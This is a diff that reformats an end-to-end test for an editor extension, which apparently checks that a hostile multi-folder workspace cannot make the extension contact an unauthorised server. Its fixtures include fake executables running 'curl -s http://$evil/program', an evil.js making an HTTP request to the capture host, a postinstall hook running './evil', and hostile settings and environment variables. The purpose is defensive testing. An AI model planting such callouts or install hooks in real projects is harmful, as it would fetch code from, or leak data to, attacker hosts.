@@ -1,14 +1,34 @@
 /**
- * A workspace of many folders that is hostile in its file, in each folder's settings, in variables and in programs that lie about: whatever the window
- * does, nothing reaches a server that nobody signed in to. That server is shown to notice.
+ * A workspace of many folders that is hostile in its file, in each folder's settings, in variables and in programs that
+ * lie about: whatever the window does, nothing reaches a server that nobody signed in to. That server is shown to
+ * notice.
  */
 import assert from "node:assert/strict";
 import { mkdir, writeFile } from "node:fs/promises";
 import { join } from "node:path";
-import { visit, type Visit } from "../../sandbox/visit.ts";
-import { capture, type Capture } from "../../secure/capture.ts";
+import { visit } from "../../sandbox/visit.ts";
+import type { Visit } from "../../sandbox/visit.ts";
+import { capture } from "../../secure/capture.ts";
+import type { Capture } from "../../secure/capture.ts";
 import { hostileSettings, settingsFiles, spellings, variables } from "../../secure/hostileCases.ts";
-import { activeTab, answer, asks, dialog, notifications, openView, openWorkbench, quickInput, reloadWindow, runCommand, screenshot, showFailure, signIn, squiggles, treeItem, type Workbench } from "../workbench.ts";
+import {
+  activeTab,
+  answer,
+  asks,
+  dialog,
+  notifications,
+  openView,
+  openWorkbench,
+  quickInput,
+  reloadWindow,
+  runCommand,
+  screenshot,
+  showFailure,
+  signIn,
+  squiggles,
+  treeItem,
+} from "../workbench.ts";
+import type { Workbench } from "../workbench.ts";
 
 /** Of this machine, but no name that goes past a proxy; nobody listens there. */
 const behindProxy = "https://127.0.0.2:9";
@@ -23,8 +43,15 @@ describe("a hostile workspace of many folders", function () {
     service = await visit();
     evil = await capture();
     const own = new URL(service.ready.formsApiUrl).host;
-    const fill = (text: string): string => text.replaceAll("$evilPort", String(evil.port)).replaceAll("$evil", `127.0.0.1:${evil.port}`).replaceAll("$own", own).replaceAll("acme", "strandby");
-    const environment = Object.fromEntries(variables.flatMap(([, given]) => Object.entries(given)).map(([name, value]) => [name, fill(value)]));
+    const fill = (text: string): string =>
+      text
+        .replaceAll("$evilPort", String(evil.port))
+        .replaceAll("$evil", `127.0.0.1:${evil.port}`)
+        .replaceAll("$own", own)
+        .replaceAll("acme", "strandby");
+    const environment = Object.fromEntries(
+      variables.flatMap(([, given]) => Object.entries(given)).map(([name, value]) => [name, fill(value)]),
+    );
     const write = (value: unknown): string => fill(JSON.stringify(value));
     const program = fill("#!/bin/sh\ncurl -s http://$evil/program\n");
     const script = fill("require('node:http').get('http://$evil/script');");
@@ -33,8 +60,17 @@ describe("a hostile workspace of many folders", function () {
       const [, spell] = spellings[index % spellings.length] ?? assert.fail();
       const [, content] = settingsFiles[index % settingsFiles.length] ?? assert.fail();
       return Object.entries({
-        ".vscode/settings.json": write(spell(settings)), "smartform.json": fill(content), "letter.sft": "Dear [[ customer,\n", "evil": program, "node": program, "smartform": program, "evil.js": script,
-        ".env": Object.entries(environment).map((pair) => pair.join("=")).join("\n"), "package.json": write({ main: "evil.js", scripts: { postinstall: "./evil" } }),
+        ".vscode/settings.json": write(spell(settings)),
+        "smartform.json": fill(content),
+        "letter.sft": "Dear [[ customer,\n",
+        evil: program,
+        node: program,
+        smartform: program,
+        "evil.js": script,
+        ".env": Object.entries(environment)
+          .map((pair) => pair.join("="))
+          .join("\n"),
+        "package.json": write({ main: "evil.js", scripts: { postinstall: "./evil" } }),
         "sandbox.json": write({ ready: true, authUrl: "http://$evil", formsApiUrl: "http://$evil" }),
       }).map(([name, text]) => [`case-${index}/${name}`, text] as const);
     });
@@ -46,7 +82,10 @@ describe("a hostile workspace of many folders", function () {
         "case-0/person.form.json": write({ dialogDefinitionId: smartform, values: { name: "Bo" } }),
         "hostile.code-workspace": write({
           folders: names.map((path) => ({ path })),
-          settings: { ...Object.fromEntries(hostileSettings.toReversed().flatMap(([, settings]) => Object.entries(settings))), "terminal.integrated.env.linux": environment },
+          settings: {
+            ...Object.fromEntries(hostileSettings.toReversed().flatMap(([, settings]) => Object.entries(settings))),
+            "terminal.integrated.env.linux": environment,
+          },
         }),
       },
     });
@@ -81,7 +120,12 @@ describe("a hostile workspace of many folders", function () {
     await another.or(quickInput(workbench).getByText("Name of the connection")).first().waitFor();
     if (await another.isVisible()) await another.click();
     const answers = [
-      ["Name of the connection", "far"], ["Address of the token service", behindProxy], ["Address of the forms API", behindProxy], ["Address of the forms application", behindProxy], ["Client id", "client"], ["Client secret", "canary-secret"],
+      ["Name of the connection", "far"],
+      ["Address of the token service", behindProxy],
+      ["Address of the forms API", behindProxy],
+      ["Address of the forms application", behindProxy],
+      ["Client id", "client"],
+      ["Client secret", "canary-secret"],
     ] as const;
     for (const [prompt, text] of answers) {
       await asks(workbench, prompt);
@@ -106,7 +150,9 @@ describe("a hostile workspace of many folders", function () {
     await runCommand(workbench, "Smartform: Create Test Form");
     await notifications(workbench).filter({ hasText: "A test form was made" }).first().waitFor();
     await screenshot(workbench, "hostile-workspace");
-    const asked = (await service.control("GET", "/ledger")).at("items") as readonly { readonly operation: string | null }[];
+    const asked = (await service.control("GET", "/ledger")).at("items") as readonly {
+      readonly operation: string | null;
+    }[];
     assert.equal(asked.filter(({ operation }) => operation === "forms.create").length, 1);
     assertUntouched();
   });
